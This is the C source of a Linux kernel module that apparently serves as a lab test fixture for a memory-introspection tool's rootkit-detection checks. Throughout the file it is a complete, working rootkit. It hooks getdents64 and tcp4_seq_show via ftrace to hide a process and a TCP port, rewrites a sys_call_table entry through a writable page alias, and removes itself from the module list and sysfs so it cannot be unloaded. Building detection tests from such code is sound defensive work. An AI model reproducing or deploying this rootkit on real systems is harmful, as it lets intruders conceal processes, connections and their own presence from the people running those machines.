// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_testkit: a TEST FIXTURE for vmi's cross-view checks (psxview, sockxview, modxview,
 * check_syscall). It behaves like a small kernel rootkit so that the tests can prove those
 * checks catch one. It is built by the lab (src/lab/testkit.ts) against Debian's headers
 * of the lab kernel and is only ever loaded into disposable lab guests by vmi's tests.
 * NEVER load it anywhere else.
 *
 * Parameters (all optional):
 *   hide_pid=N       filter /proc/N out of getdents64 results on a procfs root directory
 *                    (ftrace hook of __x64_sys_getdents64, as current rootkits do)
 *   hide_port=P      drop TCP (IPv4) sockets with local port P from /proc/net/tcp
 *                    (ftrace hook of tcp4_seq_show); sock_diag is left alone on purpose
 *   hide_self=1      unlink itself from the module list (/proc/modules, /proc/kallsyms)
 *                    and remove its /sys/module entry (default 1)
 *   hook_syscall=1   rewrite sys_call_table[__NR_sysfs] to a pass-through wrapper, through
 *                    a writable alias of the table's page (vmap); on kernels that dispatch
 *                    through x64_sys_call (6.1.85+, 6.9+) the table is not used for
 *                    dispatch, so this changes no behaviour either way
 *
 * Symbols that are not exported are found with kallsyms_lookup_name, itself found with a
 * kprobe on it (it is not exported since 5.7). Once hidden it cannot be unloaded.
 */
#include <linux/types.h>
#include <linux/dirent.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/linkage.h>
#include <linux/magic.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <net/sock.h>
#include <asm/syscall.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi test fixture: hides a PID, a TCP port and itself (lab guests only)");

static int hide_pid;
module_param(hide_pid, int, 0);
static ushort hide_port;
module_param(hide_port, ushort, 0);
static bool hide_self = true;
module_param(hide_self, bool, 0);
static bool hook_syscall;
module_param(hook_syscall, bool, 0);

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

struct hook {
	const char *name;
	void *func;
	void *orig;
	unsigned long addr;
	struct ftrace_ops ops;
	bool on;
};

static void notrace thunk(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
			  struct ftrace_regs *fregs)
{
	struct hook *h = container_of(ops, struct hook, ops);
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* Calls from our own wrappers reach the original function. */
	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)h->func;
}

static int hook_install(struct hook *h)
{
	int err;

	h->addr = lookup(h->name);
	if (!h->addr) {
		pr_err("vmi_testkit: no symbol %s\n", h->name);
		return -ENOENT;
	}
	*(unsigned long *)h->orig = h->addr;
	h->ops.func = thunk;
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY;
	err = ftrace_set_filter_ip(&h->ops, h->addr, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&h->ops);
	if (err) {
		ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
		return err;
	}
	h->on = true;
	return 0;
}

static void hook_remove(struct hook *h)
{
	if (!h->on)
		return;
	unregister_ftrace_function(&h->ops);
	ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
	h->on = false;
}

/* ---- getdents64 on /proc: drop the entry named hide_pid ---- */
static asmlinkage long (*orig_getdents64)(const struct pt_regs *regs);

static bool is_proc_root(unsigned int fd)
{
	struct file *f = fget(fd);
	bool yes = false;

	if (!f)
		return false;
	yes = f->f_path.dentry->d_sb->s_magic == PROC_SUPER_MAGIC &&
	      f->f_path.dentry == f->f_path.dentry->d_sb->s_root;
	fput(f);
	return yes;
}

static asmlinkage long hk_getdents64(const struct pt_regs *regs)
{
	long ret = orig_getdents64(regs);
	struct linux_dirent64 __user *ud = (void __user *)regs->si;
	char name[16];
	char *buf;
	long off = 0, out = 0;

	if (ret <= 0 || hide_pid <= 0 || !is_proc_root((unsigned int)regs->di))
		return ret;
	snprintf(name, sizeof(name), "%d", hide_pid);
	buf = kvmalloc(ret, GFP_KERNEL);
	if (!buf)
		return ret;
	if (copy_from_user(buf, ud, ret))
		goto done;
	while (off < ret) {
		struct linux_dirent64 *d = (void *)(buf + off);
		unsigned short len = d->d_reclen;

		if (len == 0 || off + len > ret)
			break;
		if (strcmp(d->d_name, name) != 0) {
			if (out != off)
				memmove(buf + out, buf + off, len);
			out += len;
		}
		off += len;
	}
	if (off == ret && out != ret && !copy_to_user(ud, buf, out))
		ret = out;
done:
	kvfree(buf);
	return ret;
}

/* ---- /proc/net/tcp: skip the sockets bound to hide_port ---- */
static int (*orig_tcp4_seq_show)(struct seq_file *seq, void *v);

static int hk_tcp4_seq_show(struct seq_file *seq, void *v)
{
	int ret;

	/* Listening, established, request and time-wait sockets all start with sock_common. */
	if (v != SEQ_START_TOKEN && hide_port && ((struct sock_common *)v)->skc_num == hide_port)
		return 0;
	ret = orig_tcp4_seq_show(seq, v);
	/* Never a tail call: the thunk tells our calls from the kernel's by their return address. */
	barrier();
	return ret;
}

static struct hook hooks[] = {
	{ .name = "__x64_sys_getdents64", .func = hk_getdents64, .orig = &orig_getdents64 },
	{ .name = "tcp4_seq_show", .func = hk_tcp4_seq_show, .orig = &orig_tcp4_seq_show },
};

/* ---- sys_call_table[__NR_sysfs] rewrite ---- */
static unsigned long *table;
static unsigned long orig_sysfs;

static asmlinkage long hk_sysfs(const struct pt_regs *regs)
{
	long ret = ((asmlinkage long (*)(const struct pt_regs *))orig_sysfs)(regs);

	barrier();
	return ret;
}

/* Writes one word of read-only kernel data through a temporary writable alias of its page. */
static int poke_word(unsigned long *where, unsigned long value)
{
	unsigned long addr = (unsigned long)where;
	struct page *page = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)((char *)alias + offset_in_page(addr)), value);
	vunmap(alias);
	return 0;
}

static int __init testkit_init(void)
{
	int err, i;

	err = find_lookup();
	if (err) {
		pr_err("vmi_testkit: cannot find kallsyms_lookup_name (%d)\n", err);
		return err;
	}
	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		err = hook_install(&hooks[i]);
		if (err) {
			pr_err("vmi_testkit: hooking %s failed (%d)\n", hooks[i].name, err);
			while (--i >= 0)
				hook_remove(&hooks[i]);
			return err;
		}
	}
	if (hook_syscall) {
		table = (unsigned long *)lookup("sys_call_table");
		if (table) {
			orig_sysfs = table[__NR_sysfs];
			if (poke_word(&table[__NR_sysfs], (unsigned long)hk_sysfs))
				table = NULL;
		}
	}
	pr_info("vmi_testkit: loaded (hide_pid=%d hide_port=%u hide_self=%d hook_syscall=%d)\n",
		hide_pid, hide_port, hide_self, table != NULL);
	if (hide_self) {
		list_del_init(&THIS_MODULE->list);
		kobject_del(&THIS_MODULE->mkobj.kobj);
	}
	return 0;
}

static void __exit testkit_exit(void)
{
	int i;

	if (table)
		poke_word(&table[__NR_sysfs], orig_sysfs);
	for (i = ARRAY_SIZE(hooks) - 1; i >= 0; i--)
		hook_remove(&hooks[i]);
}

module_init(testkit_init);
module_exit(testkit_exit);
